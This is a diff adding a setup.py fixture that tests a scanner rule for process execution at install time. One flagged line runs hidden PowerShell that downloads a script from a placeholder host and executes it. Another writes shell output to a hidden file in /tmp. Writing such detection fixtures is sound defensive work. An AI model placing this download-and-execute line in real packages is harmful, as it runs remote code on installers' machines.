@@ -1,0 +1,15 @@
+# provscan-test-path: setup.py
+# Fixture for py.setup-runs-process (provscan's own).
+import os
+import subprocess
+from setuptools import setup
+
+# ok: py.setup-runs-process
+version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
+# ruleid: py.setup-runs-process
+os.system("powershell -w hidden -c iwr https://example.invalid/a.ps1 | iex")
+# ruleid: py.setup-runs-process
+subprocess.Popen(["/bin/sh", "-c", "id > /tmp/.x"])
+# ok: py.setup-runs-process
+subprocess.check_call(["cmake", "-S", ".", "-B", "build"])
+setup(name="pkg", version=version)
